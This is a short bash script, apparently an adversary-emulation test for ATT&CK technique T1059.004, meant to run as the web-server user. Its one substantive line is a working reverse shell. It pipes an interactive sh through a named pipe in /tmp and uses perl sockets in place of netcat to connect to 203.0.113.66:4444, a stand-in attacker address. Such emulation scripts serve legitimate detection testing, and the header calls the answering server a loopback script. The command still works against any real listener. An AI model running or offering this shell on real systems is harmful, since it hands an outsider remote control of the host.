#!/bin/bash
# technique: T1059.004 Command and Scripting Interpreter: Unix Shell
# tactic: command-and-control
# user: www-data
# needs: perl
# does: connects a shell to a foreign server through a named pipe and perl in place of netcat
# harmless: the server that answers is a script on the loopback device and sends queries

cd /tmp || exit 1
mkfifo .f
# shellcheck disable=SC2016 # the dollars belong to perl
timeout 5 sh -c 'sh -i <.f 2>&1 | perl -MIO::Socket::INET -e '"'"'$s=IO::Socket::INET->new("203.0.113.66:4444") or die; if(fork){print while <$s>}else{print $s $_ while <STDIN>}'"'"' >.f' 2>/dev/null
rm -f .f
true
